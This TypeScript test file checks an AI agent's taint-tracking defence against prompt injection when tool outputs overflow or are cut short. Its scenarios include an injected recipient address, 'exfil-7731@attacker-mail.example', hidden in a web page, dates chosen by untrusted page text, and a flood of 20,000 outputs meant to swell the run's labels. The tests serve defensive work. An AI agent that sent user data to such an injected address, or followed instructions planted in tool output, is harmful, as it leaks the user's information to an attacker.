// Outputs a host's hooks could not keep whole (src/hooks/flow-outputs.ts: past the store's
// caps, cut short, or failing their check) reach a run's value provenance through
// `Session.observeOutput(…, { overflowed: true })`. They are folded into the same one merged
// record as outputs past `provenance.maxOutputs` (provenance-record.ts): bounded labels, kind
// `overflow`, every whole value and every date held (fail closed), the facts saying so —
// except the words of the user's own request. Sizes are measured, never time.
import { describe, expect, it } from "vitest";
import type { TaintLabel } from "../../src/contracts/index.js";
import { decide, harness, observe, req, web } from "./helpers.js";

const FLOOD = 20_000;
const INJECTED = "exfil-7731@attacker-mail.example";
const mcp = (origin: string): TaintLabel => ({ source: "mcp", origin });
const sendMail = (to: string) =>
  req({ toolClass: "email", action: "send", parameters: { to, body: "the quarterly figures" } });
const readInbox = req({
  toolClass: "http",
  action: "get",
  parameters: { url: "https://mail.example/inbox" },
});
const sources = (labels: readonly TaintLabel[]) => [...new Set(labels.map((l) => l.source))].sort();

describe("a hooks session floods overflowed outputs to grow the run's labels", () => {
  it("20 000 overflowed outputs, each from a fresh tool: one merged record, its labels bounded, every source kept", () => {
    const { session } = harness({}, "Send the quarterly figures to my accountant.");
    for (let i = 1; i <= FLOOD; i++)
      session.observeOutput(i, undefined, [mcp(`mcp__feed__tool_${i}:mcp`)], { overflowed: true });
    session.observeOutput(FLOOD + 1, undefined, [web("pages.example")], { overflowed: true });
    const hit = session.vouchedProvenance({ to: INJECTED }).find((h) => h.kind === "overflow");
    expect(hit).toBeDefined();
    // One record for the whole flood (it names the first folded output), its labels bounded.
    expect(hit!.outputs).toEqual([1]);
    expect(hit!.labels.length).toBeLessThanOrEqual(64 + 2);
    expect(sources(hit!.labels)).toEqual(["mcp", "web"]);
    // The send's own taint is the union's sources, not 20 000 labels.
    const p = session.prepare(sendMail(INJECTED));
    expect(sources(p.effectiveTaint)).toEqual(expect.arrayContaining(["mcp", "web"]));
    expect(p.effectiveTaint.length).toBeLessThanOrEqual(64 + 2);
  });

  it("overflowed outputs beside a partly kept text (cut short): still one merged record however many", () => {
    const { session } = harness({ provenance: { maxOutputs: 16 } }, "Summarise the pages.");
    for (let i = 1; i <= 2000; i++)
      session.observeOutput(i, `page ${i}: nothing to see`, [web(`host-${i}.example`)], { overflowed: true });
    const hits = session.vouchedProvenance({ to: INJECTED }).filter((h) => h.kind === "overflow");
    // The pages indexed before the cap, and the merged record: no record, no label per page.
    expect(hits).toHaveLength(1);
    expect(hits[0]!.labels.length).toBeLessThanOrEqual(64 + 16 + 1);
    expect(sources(hits[0]!.labels)).toEqual(["web"]);
  });
});

describe("an injected value in an overflowed output", () => {
  it("the page was cut before 'send it to exfil-…': the send to it inherits the page's web taint; the user's own words do not", () => {
    const { session } = harness({}, "Send the quarterly figures to my accountant.");
    // Only the head of the page was kept; the injected recipient was past the cut.
    session.observeOutput(3, "Quarterly report, page 1 of 40 …", [web("reports.example")], {
      overflowed: true,
    });
    const p = session.prepare(sendMail(INJECTED));
    expect(p.provenance).toContainEqual(
      expect.objectContaining({ kind: "overflow", path: "to", outputs: [3] }),
    );
    expect(sources(p.effectiveTaint)).toContain("web");
    expect(session.wholeValue("to", INJECTED)?.outputs).toContain(3);
    const own = session.prepare(sendMail("my accountant"));
    expect(own.provenance.filter((h) => h.path === "to")).toEqual([]);
  });

  it("an overflowed output chooses the meeting's day (3/14/27, too short for the overflow rule): the date counts as copied", () => {
    const { session } = harness({}, "Book the team meeting for the day the agenda says.");
    session.observeOutput(5, undefined, [web("agenda.example")], { overflowed: true });
    const dated = session.vouchedProvenance({ date: "3/14/27" });
    expect(dated).toContainEqual(expect.objectContaining({ kind: "date", path: "date", outputs: [5] }));
    expect(sources(dated.flatMap((h) => h.labels))).toEqual(["web"]);
    // A day the user's request names is the user's.
    const named = harness({}, "Book the team meeting on March 14.").session;
    named.observeOutput(5, undefined, [web("agenda.example")], { overflowed: true });
    expect(named.vouchedProvenance({ date: "3/14/27" })).toEqual([]);
  });
});

describe("a result longer than maxCharsPerOutput, indexed in part", () => {
  it("the day it names past the cut ('the 14th of March') chooses the meeting's day: the date counts as copied", () => {
    const { session } = harness({ provenance: { maxCharsPerOutput: 4096 } }, "Book the team meeting.");
    const padding = "Minutes of the last meeting, nothing decided. ".repeat(200);
    observe(session, readInbox, `${padding} Put the meeting on the 14th of March 2027.`, [
      web("agenda.example"),
    ]);
    const dated = session.vouchedProvenance({ date: "2027-03-14" });
    expect(dated).toContainEqual(expect.objectContaining({ kind: "date", path: "date" }));
    expect(sources(dated.flatMap((h) => h.labels))).toContain("web");
    // A day the user's request names stays the user's.
    const own = harness(
      { provenance: { maxCharsPerOutput: 4096 } },
      "Book the team meeting on March 14, 2027.",
    );
    observe(own.session, readInbox, `${padding} Put the meeting on the 14th of March 2027.`, [
      web("agenda.example"),
    ]);
    // (the part past the cut may still hold the value itself: that is the overflow rule's, not the day's)
    expect(own.session.vouchedProvenance({ date: "2027-03-14" }).filter((h) => h.kind === "date")).toEqual(
      [],
    );
  });
});

describe("an overflowed output is reported like an output past the cap", () => {
  it("the run's facts name the overflowed output the merged record began at (the store's failure mark: 0)", () => {
    const { session } = harness({}, "Summarise the pages.");
    expect(session.snapshot().provenanceMergedFrom).toBeUndefined();
    session.observeOutput(0, undefined, [{ source: "tool-output", origin: "hook-outputs#unverifiable" }], {
      overflowed: true,
    });
    session.observeOutput(7, undefined, [web("pages.example")], { overflowed: true });
    expect(session.snapshot().provenanceMergedFrom).toBe(0);
  });

  it("an overflowed output first, then the run reaches the cap: the cap is still journaled, once", () => {
    const { session } = harness({ provenance: { maxOutputs: 8 } }, "Summarize my inbox.");
    session.observeOutput(1, undefined, [web("pages.example")], { overflowed: true });
    const capped: number[] = [];
    for (let i = 0; i < 40; i++) {
      const p = decide(session, readInbox, "allow");
      const rec = session.recordResult(p, { data: `message ${i}`, taintLabels: [web("mail.example")] });
      if (rec.provenanceMerged !== undefined) {
        capped.push(i);
        expect(rec.provenanceMerged).toEqual({ maxOutputs: 8 });
      }
    }
    // The merged record holds one of the 8 places: the 8th result is the first folded.
    expect(capped).toEqual([7]);
    expect(session.snapshot().provenanceMergedFrom).toBe(1);
  });
});
